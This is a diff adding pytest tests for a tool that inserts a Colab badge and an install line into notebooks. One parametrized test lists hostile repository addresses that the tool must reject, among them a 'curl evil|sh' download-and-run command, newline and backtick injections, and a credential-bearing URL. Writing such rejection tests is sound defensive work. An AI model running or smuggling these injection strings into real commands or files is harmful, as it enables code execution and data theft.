@@ -1,0 +1,135 @@
+"""`make repository` writes a badge and an install line into notebooks, and nothing that an address smuggles in."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import nbformat
+import pytest
+from IPython.core.inputtransformer2 import TransformerManager
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+
+from tools import repository
+
+URL = "https://github.com/someone/judges"
+OLD = """\
+import sys
+
+if "google.colab" in sys.modules:
+    %pip install --quiet "vjudge[gpu,train] @ git+https://github.com/else/where"\
+"""
+
+
+@pytest.fixture
+def path(tmp_path):
+    cells = [new_markdown_cell("# 02 · A title\n\n**A question?**"), new_code_cell(OLD, execution_count=1)]
+    output = new_output("stream", text="kept\n")
+    cells.append(new_code_cell("print('kept')", execution_count=2, outputs=[output]))
+    for number, cell in enumerate(cells):
+        cell["id"] = str(number)
+    path = tmp_path / "02_fine_tune.ipynb"
+    nbformat.write(new_notebook(cells=cells), path)
+    return path
+
+
+def sources(path):
+    return [cell.source for cell in nbformat.read(path, as_version=4).cells]
+
+
+def test_badge_and_install_line_name_the_repository_and_the_notebooks_extras(path):
+    repository.main(["--url", URL, str(path)])
+    opening, setup, _ = sources(path)
+    link = "https://colab.research.google.com/github/someone/judges/blob/main/notebooks/02_fine_tune.ipynb"
+    assert opening == f"{repository.BADGE}({link})\n\n# 02 · A title\n\n**A question?**"
+    assert setup.splitlines()[-1] == f'    %pip install -q "vjudge[gpu,train] @ git+{URL}"'
+
+
+def test_without_a_repository_there_is_no_badge_and_the_set_up_cell_says_what_to_do(path):
+    repository.main(["--url", "", str(path)])
+    opening, setup, _ = sources(path)
+    assert opening == "# 02 · A title\n\n**A question?**"
+    assert "%pip" not in TransformerManager().transform_cell(setup).split('"')[0] and "://github" not in setup
+    colab = setup.replace('"google.colab" in sys.modules', "True").replace(
+        'find_spec("vjudge")', 'find_spec("no_vjudge")'
+    )
+    with pytest.raises(ModuleNotFoundError, match=r"upload it, .*\[gpu,train\] @ git\+URL"):
+        exec(colab, {})
+    exec(setup, {})  # and outside Colab it does nothing
+
+
+def test_it_is_idempotent_and_reversible_and_touches_nothing_else(path):
+    repository.main(["--url", "", str(path)])
+    bare = path.read_bytes()
+    for url in (URL, URL, URL + ".git", "git@github.com:someone/judges.git"):
+        repository.main(["--url", url, str(path)])
+        assert "someone/judges/blob" in sources(path)[0] and sources(path)[1].endswith(f'git+{URL}"')
+        assert sources(path)[2] == "print('kept')" and "kept\\n" in path.read_text()
+    repository.main(["--url", "", str(path)])
+    repository.main(["--url", "", str(path)])
+    assert path.read_bytes() == bare
+
+
+def test_another_host_has_an_install_line_and_no_badge_since_colab_opens_github_alone(path, capsys):
+    repository.main(["--url", "ssh://git@gitlab.example.org/group/sub/judges.git", str(path)])
+    assert sources(path)[0].startswith("# 02") and "no badges" in capsys.readouterr().out
+    assert sources(path)[1].endswith('git+https://gitlab.example.org/group/sub/judges"')
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://github.com/a/b;curl evil|sh",
+        'https://github.com/a/b"\n    import os',
+        "https://github.com/a/b\n",
+        "https://github.com/a/{os.getcwd()}",
+        "https://github.com/a/$HOME",
+        "https://github.com/a/`id`",
+        "https://github.com/a/b)[x](https://evil.example",
+        "https://github.com/a/../b",
+        "https://github.com/a/--help",
+        "https://github.com/a/b#egg=other",
+        "https://user:secret@github.com/a/b",
+        "git@github.com:a/b c",
+        "http://github.com/a/b",
+        "file:///srv/b.git",
+        "../b",
+        "https://github.com",
+        "https://gïthub.com/a/b",
+        "-q",
+    ],
+)
+def test_an_address_that_could_carry_code_or_a_password_is_refused_and_not_repeated(path, url, capsys):
+    before = path.read_bytes()
+    with pytest.raises(SystemExit):
+        repository.main([f"--url={url}", str(path)])
+    assert path.read_bytes() == before
+    error = capsys.readouterr().err.splitlines()[-1]
+    assert "https://github.com/OWNER/NAME" in error and "secret" not in error and "evil" not in error
+
+
+def test_a_first_code_cell_that_does_more_than_set_up_is_not_overwritten(path):
+    notebook = nbformat.read(path, as_version=4)
+    notebook.cells[1].source += "\nresult = 1"
+    nbformat.write(notebook, path)
+    before = path.read_bytes()
+    with pytest.raises(ValueError, match="02_fine_tune: .*only set up Colab"):
+        repository.main(["--url", URL, str(path)])
+    assert path.read_bytes() == before
+
+
+@pytest.mark.parametrize(("remote", "line"), [(URL, URL), ("/srv/judges.git", ""), ("", "")])
+def test_the_default_is_the_checkouts_own_origin_where_others_can_reach_it(path, remote, line):
+    def git(*arguments):
+        subprocess.run(["git", *arguments], cwd=path.parent, check=True, capture_output=True)
+
+    git("init")
+    if remote:
+        git("remote", "add", "origin", remote)
+    script = Path(repository.__file__)
+    result = subprocess.run([sys.executable, script, path], capture_output=True, text=True, check=True)
+    assert ("origin is not a" in result.stdout) == (remote.startswith("/"))
+    opening, setup, _ = sources(path)
+    assert opening.startswith(repository.BADGE if line else "# 02") and ("    %pip" in setup) == bool(line)
+    assert "/srv" not in setup and (not line or f"git+{line}" in setup)
